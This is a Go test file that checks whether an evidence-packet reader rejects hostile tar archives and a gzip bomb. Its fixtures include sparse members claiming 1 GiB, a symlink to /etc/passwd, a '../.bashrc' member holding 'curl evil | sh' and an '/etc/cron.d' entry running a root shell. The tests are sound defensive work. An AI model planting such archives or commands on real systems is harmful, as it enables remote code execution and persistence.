package evidence

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/go-logr/logr"
)

// sealedPacket is a decision sealed by a real sealer, exported as
// 'stellactl evidence export' writes it, with the trust that verifies it.
func sealedPacket(tb testing.TB) ([]byte, Trust) {
	tb.Helper()
	dir := tb.TempDir()
	s := sealingSealer(tb, dir, nil, logr.Discard())
	defer s.Close()
	st, err := DecisionStatement("shop", "shop-to-prod", release(), record())
	if err != nil {
		tb.Fatal(err)
	}
	seal, err := s.Seal(st)
	if err != nil {
		tb.Fatal(err)
	}
	p := &Packet{Statement: st, Checkpoint: []byte(seal.Checkpoint), Object: []byte(`{"kind":"EvidencePacket"}`),
		Proof: Proof{Index: fmt.Sprint(seal.LogIndex), Hashes: seal.InclusionProof}}
	for into, file := range map[*[]byte]string{&p.SigningKey: PublicKeyFile, &p.CheckpointKey: CheckpointVerifierFile} {
		if *into, err = os.ReadFile(filepath.Join(dir, file)); err != nil {
			tb.Fatal(err)
		}
	}
	if p.Envelope, err = s.Store.Get(seal.Envelope); err != nil {
		tb.Fatal(err)
	}
	if p.Leaf, err = s.log.Entry(seal.LogIndex); err != nil {
		tb.Fatal(err)
	}
	var buf bytes.Buffer
	if err := p.WriteTar(&buf); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes(), s.Trust()
}

// tarEntry is one member of a hand-made archive: a header and data for
// archive/tar's writer, or raw blocks for what that writer will not write.
type tarEntry struct {
	hdr  *tar.Header
	data []byte
	raw  []byte
}

func tarOf(tb testing.TB, entries ...tarEntry) []byte {
	tb.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		if e.raw != nil {
			buf.Write(e.raw)
			continue
		}
		if e.hdr.Size == 0 {
			e.hdr.Size = int64(len(e.data))
		}
		if err := tw.WriteHeader(e.hdr); err != nil {
			tb.Fatal(err)
		}
		if _, err := tw.Write(e.data); err != nil {
			tb.Fatal(err)
		}
		if err := tw.Flush(); err != nil {
			tb.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

// membersOf are the members of a well-formed archive, to build on.
func membersOf(tb testing.TB, archive []byte) []tarEntry {
	tb.Helper()
	var entries []tarEntry
	tr := tar.NewReader(bytes.NewReader(archive))
	for {
		hdr, err := tr.Next()
		if errors.Is(err, io.EOF) {
			return entries
		}
		if err != nil {
			tb.Fatal(err)
		}
		data, err := io.ReadAll(tr)
		if err != nil {
			tb.Fatal(err)
		}
		entries = append(entries, tarEntry{hdr: hdr, data: data})
	}
}

// ustarHeader is a raw header block. Old-style GNU sparse headers carry
// GNU's magic; the others POSIX's.
func ustarHeader(name string, typeflag byte, size int64, gnu bool) []byte {
	b := make([]byte, 512)
	copy(b[0:100], name)
	copy(b[100:108], "0000644\x00")
	copy(b[108:116], "0000000\x00")
	copy(b[116:124], "0000000\x00")
	copy(b[124:136], octal12(size))
	copy(b[136:148], octal12(0))
	b[156] = typeflag
	if gnu {
		copy(b[257:265], "ustar  \x00")
	} else {
		copy(b[257:265], "ustar\x0000")
	}
	return b
}

func octal12(n int64) string { return fmt.Sprintf("%011o\x00", n) }

// withChecksum fills in a header block's checksum: the sum of its bytes,
// with the checksum field counted as spaces.
func withChecksum(b []byte) []byte {
	copy(b[148:156], "        ")
	sum := 0
	for _, c := range b {
		sum += int(c)
	}
	copy(b[148:156], fmt.Sprintf("%06o\x00 ", sum))
	return b
}

// blocks pads data with zeros to whole tar blocks.
func blocks(data []byte) []byte {
	return append(data, make([]byte, (512-len(data)%512)%512)...)
}

// gib is what the sparse members claim to hold.
const gib = 1 << 30

// gnuSparseMember is an old-style GNU sparse member of 1 KiB on disk that
// reads as 1 GiB: one 512-byte data block at its very end, the rest a hole.
func gnuSparseMember(name string) tarEntry {
	hdr := ustarHeader(name, tar.TypeGNUSparse, 512, true)
	copy(hdr[386:398], octal12(gib-512)) // the one sparse entry: offset
	copy(hdr[398:410], octal12(512))     // and length
	copy(hdr[483:495], octal12(gib))     // the size it reads as
	return tarEntry{raw: append(withChecksum(hdr), blocks([]byte("the only data"))...)}
}

// paxSparseMember is the same in GNU's PAX format 1.0: the sparse map in
// PAX records and at the start of the member's data.
func paxSparseMember(name string) tarEntry {
	var records string
	for _, kv := range [][2]string{{"GNU.sparse.major", "1"}, {"GNU.sparse.minor", "0"}, {"GNU.sparse.name", name}, {"GNU.sparse.realsize", fmt.Sprint(gib)}} {
		records += paxRecord(kv[0], kv[1])
	}
	raw := withChecksum(ustarHeader("PaxHeaders/"+name, tar.TypeXHeader, int64(len(records)), false))
	raw = append(raw, blocks([]byte(records))...)
	raw = append(raw, withChecksum(ustarHeader(name, tar.TypeReg, 1024, false))...)
	raw = append(raw, blocks(fmt.Appendf(nil, "1\n%d\n512\n", gib-512))...)
	return tarEntry{raw: append(raw, blocks([]byte("the only data"))...)}
}

// paxRecord is "LENGTH key=value\n", LENGTH counting its own digits.
func paxRecord(k, v string) string {
	body := " " + k + "=" + v + "\n"
	n := len(body)
	for len(body)+len(strconv.Itoa(n)) != n {
		n = len(body) + len(strconv.Itoa(n))
	}
	return strconv.Itoa(n) + body
}

func regular(name string, data []byte) tarEntry {
	return tarEntry{hdr: &tar.Header{Name: name, Mode: 0o644, Typeflag: tar.TypeReg, Format: tar.FormatPAX}, data: data}
}

// hostilePacket is a packet someone made to hurt or fool its verifier,
// and what the refusal must say.
type hostilePacket struct {
	name   string
	packet []byte
	says   []string
}

// hostilePackets are the whole, valid packet with one hostile member
// instead of its statement or after its own members, so that only the
// hostile member can be the reason for a refusal.
func hostilePackets(tb testing.TB, valid []byte) []hostilePacket {
	tb.Helper()
	members := membersOf(tb, valid)
	instead := func(e tarEntry) []byte {
		replaced := slices.Clone(members)
		replaced[0] = e // the statement
		return tarOf(tb, replaced...)
	}
	after := func(e tarEntry) []byte { return tarOf(tb, append(members[:len(members):len(members)], e)...) }
	link := func(name string, flag byte, target string) tarEntry {
		return tarEntry{hdr: &tar.Header{Name: name, Typeflag: flag, Linkname: target, Mode: 0o777, Format: tar.FormatPAX}}
	}
	return []hostilePacket{
		{"a GNU sparse member reading as 1 GiB", instead(gnuSparseMember(FileStatement)), []string{`"statement.json"`, "sparse file claiming 1073741824 bytes"}},
		{"a PAX sparse member reading as 1 GiB", instead(paxSparseMember(FileStatement)), []string{`"statement.json"`, "sparse file claiming 1073741824 bytes"}},
		{"a symbolic link", after(link("keys", tar.TypeSymlink, "/etc/passwd")), []string{`"keys"`, "is a symbolic link"}},
		{"a hard link", after(link("copy", tar.TypeLink, FileStatement)), []string{`"copy"`, "is a hard link"}},
		{"a directory", after(tarEntry{hdr: &tar.Header{Name: "more/", Typeflag: tar.TypeDir, Mode: 0o755, Format: tar.FormatPAX}}), []string{`"more/"`, "is a directory"}},
		{"a device", after(tarEntry{hdr: &tar.Header{Name: "disk", Typeflag: tar.TypeBlock, Devmajor: 8, Mode: 0o600, Format: tar.FormatPAX}}), []string{`"disk"`, "is a device"}},
		{"a path out of the archive", after(regular("../.bashrc", []byte("curl evil | sh\n"))), []string{`"../.bashrc"`, "climbs out of the archive"}},
		{"an absolute path", after(regular("/etc/cron.d/x", []byte("* * * * * root sh\n"))), []string{`"/etc/cron.d/x"`, "absolute path"}},
		{"a file the format does not have", after(regular("README", []byte("trust me"))), []string{`"README"`, "is not one of them"}},
		{"a second statement after the signed one", after(regular(FileStatement, []byte(`{"forged":true}`))), []string{`"statement.json"`, "appears twice"}},
		{"a statement over its bound", instead(regular(FileStatement, bytes.Repeat([]byte("a"), MaxStatementSize+1))), []string{`"statement.json"`, "has 1048577 bytes, more than the 1048576 allowed"}},
	}
}

// allocatedBy is how many bytes f allocates on the heap.
func allocatedBy(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// maxReadAllocation bounds what reading any packet may allocate: its
// members, which are at most MaxPacketSize bytes, and the readers' buffers.
const maxReadAllocation = 3 * MaxPacketSize

func TestReadPacketRefusesHostileMembers(t *testing.T) {
	valid, _ := sealedPacket(t)
	if _, err := ReadPacket(bytes.NewReader(valid)); err != nil {
		t.Fatalf("the packet the hostile ones build on: %v", err)
	}
	for _, tc := range hostilePackets(t, valid) {
		t.Run(tc.name, func(t *testing.T) {
			var err error
			allocated := allocatedBy(func() { _, err = ReadPacket(bytes.NewReader(tc.packet)) })
			if !errors.Is(err, ErrMalformed) {
				t.Fatalf("read a packet with %s: %v", tc.name, err)
			}
			for _, s := range append(tc.says, "refused: a packet holds only the regular files") {
				if !strings.Contains(err.Error(), s) {
					t.Errorf("the refusal does not say %q: %v", s, err)
				}
			}
			if allocated > maxReadAllocation {
				t.Errorf("refusing a %d-byte packet allocated %d bytes, more than %d", len(tc.packet), allocated, maxReadAllocation)
			}
		})
	}
}

func TestReadPacketReadsNoMoreThanItsBound(t *testing.T) {
	// Each member is within its bound, but PAX comments make the whole
	// archive larger than any packet: reading stops at MaxPacketSize.
	padded := func(name string, size int) tarEntry {
		e := regular(name, bytes.Repeat([]byte("x"), size))
		e.hdr.PAXRecords = map[string]string{"comment": strings.Repeat("c", 900<<10)}
		return e
	}
	large := tarOf(t, padded(FileStatement, MaxStatementSize), padded(FileEnvelope, MaxEnvelopeSize), padded(FileObject, maxObjectMember),
		padded(FileCheckpoint, 1), padded(FileProof, 0))
	counted := &countingReader{r: bytes.NewReader(large)}
	var err error
	allocated := allocatedBy(func() { _, err = ReadPacket(counted) })
	if !errors.Is(err, ErrMalformed) || !strings.Contains(err.Error(), fmt.Sprintf("the packet is over %d bytes", MaxPacketSize)) {
		t.Fatalf("a %d-byte packet: %v", len(large), err)
	}
	if counted.n > MaxPacketSize {
		t.Errorf("read %d bytes of a %d-byte packet, more than the %d allowed", counted.n, len(large), MaxPacketSize)
	}
	if allocated > maxReadAllocation {
		t.Errorf("refusing a %d-byte packet allocated %d bytes, more than %d", len(large), allocated, maxReadAllocation)
	}
}

func TestReadPacketRefusesCompressedPackets(t *testing.T) {
	// A gzip bomb: 64 KiB that would decompress to 64 MiB. The reader reads
	// plain tar only, so it never decompresses anything.
	var bomb bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&bomb, gzip.BestCompression)
	zeros := make([]byte, 1<<20)
	for range 64 {
		zw.Write(zeros)
	}
	zw.Close()
	var err error
	allocated := allocatedBy(func() { _, err = ReadPacket(bytes.NewReader(bomb.Bytes())) })
	if !errors.Is(err, ErrMalformed) || !strings.Contains(err.Error(), "gzip-compressed") || !strings.Contains(err.Error(), "decompress it first") {
		t.Fatalf("a gzip stream: %v", err)
	}
	if allocated > maxReadAllocation {
		t.Errorf("refusing a %d-byte gzip stream allocated %d bytes", bomb.Len(), allocated)
	}
}

func TestPacketRoundTripsAndVerifies(t *testing.T) {
	valid, trust := sealedPacket(t)
	p, err := ReadPacket(bytes.NewReader(valid))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.Verify(trust); err != nil {
		t.Fatalf("the packet read back does not verify: %v", err)
	}
	var again bytes.Buffer
	if err := p.WriteTar(&again); err != nil || !bytes.Equal(again.Bytes(), valid) {
		t.Fatalf("written again, the packet has other bytes (%v)", err)
	}
}

func TestPacketLeafIsTheStatementsLogEntry(t *testing.T) {
	valid, trust := sealedPacket(t)
	read := func() *Packet {
		p, err := ReadPacket(bytes.NewReader(valid))
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	if p := read(); !bytes.HasPrefix(p.Leaf, []byte(`{"_type":"`+LogEntryType+`","predicateType":"`+PredicateDecision+`","statement":"sha256:`)) {
		t.Fatalf("the packet's leaf is %q", p.Leaf)
	}

	other := read()
	other.Leaf = bytes.Replace(other.Leaf, []byte(PredicateDecision), []byte(PredicateRollback), 1)
	var buf bytes.Buffer
	if err := other.WriteTar(&buf); err != nil {
		t.Fatal(err)
	}
	p, err := ReadPacket(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.Verify(trust); !errors.Is(err, ErrDigestMismatch) || !strings.Contains(err.Error(), FileLeaf+" is not the log entry of "+FileStatement) {
		t.Errorf("a packet whose leaf is not its statement's: %v", err)
	}

	// A packet exported before packets held their leaf.
	var old []tarEntry
	for _, e := range membersOf(t, valid) {
		if e.hdr.Name != FileLeaf {
			old = append(old, e)
		}
	}
	p, err = ReadPacket(bytes.NewReader(tarOf(t, old...)))
	if err != nil {
		t.Fatalf("a packet without %s: %v", FileLeaf, err)
	}
	if _, err := p.Verify(trust); err != nil {
		t.Errorf("a packet without %s does not verify: %v", FileLeaf, err)
	}
}

func TestPacketsAtEveryBoundFitThePacketBound(t *testing.T) {
	full := func(m packetMember) []byte { return bytes.Repeat([]byte("p"), int(m.max)) }
	hash := strings.Repeat("0", maxProofField)
	p := &Packet{Statement: full(packetMembers[0]), Envelope: full(packetMembers[1]), Checkpoint: full(packetMembers[2]),
		Leaf: full(packetMembers[4]), SigningKey: full(packetMembers[5]), CheckpointKey: full(packetMembers[6]), Object: full(packetMembers[7]),
		Proof: Proof{Index: hash, From: hash, To: hash, Size: hash}}
	for range maxProofHashes {
		p.Proof.Hashes = append(p.Proof.Hashes, hash)
	}
	var buf bytes.Buffer
	if err := p.WriteTar(&buf); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadPacket(&buf); err != nil {
		t.Fatalf("a %d-byte packet with every member at its bound: %v", buf.Len(), err)
	}

	p.Statement = append(p.Statement, '!')
	if err := p.WriteTar(io.Discard); err == nil || !strings.Contains(err.Error(), "packet member statement.json has 1048577 bytes") {
		t.Errorf("wrote a statement over its bound: %v", err)
	}
}

func TestReadPacketRefusesProofsNoLogMakes(t *testing.T) {
	valid, _ := sealedPacket(t)
	hash := strings.Repeat("0", 64)
	for name, proof := range map[string]string{
		"65 hashes":       `{"index":"1","hashes":[` + strings.Repeat(`"`+hash+`",`, 64) + `"` + hash + `"]}`,
		"a long index":    `{"index":"` + strings.Repeat("1", 65) + `","hashes":[]}`,
		"a long hash":     `{"index":"1","hashes":["` + hash + `0"]}`,
		"not json at all": `index 1`,
	} {
		t.Run(name, func(t *testing.T) {
			var entries []tarEntry
			for _, e := range membersOf(t, valid) {
				if e.hdr.Name == FileProof {
					e = regular(FileProof, []byte(proof))
				}
				entries = append(entries, e)
			}
			if _, err := ReadPacket(bytes.NewReader(tarOf(t, entries...))); !errors.Is(err, ErrMalformed) || !strings.Contains(err.Error(), FileProof) {
				t.Errorf("read a proof with %s: %v", name, err)
			}
		})
	}
}

// countingReader counts the bytes read through it.
type countingReader struct {
	r io.Reader
	n int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += int64(n)
	return n, err
}
